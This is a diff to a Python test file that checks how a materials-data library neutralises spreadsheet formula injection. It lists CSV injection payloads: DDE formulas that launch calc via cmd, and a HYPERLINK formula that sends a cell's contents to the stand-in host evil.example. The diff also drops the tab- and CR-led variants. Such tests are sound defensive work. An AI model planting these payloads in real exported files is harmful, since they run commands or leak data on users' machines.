@@ -18,8 +18,9 @@ from dm_hpc.data.sheetfiles import neutralise, unneutralise, write_rows
 from dm_hpc.data.sheets import SheetError, read_sheet, read_sheet_contents, write_sheet
 from tests.campaign.helpers import dm
 
+# (tab- and CR-led formulas are refused in record fields now: control characters, test_strict_names)
 ATTACKS = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-           "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=already quoted"]
+           '=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=already quoted"]
 HEADER = "sample_id,composition:Cu [at_frac],composition:Ni [at_frac],property:density [g/cm^3]"
 
 
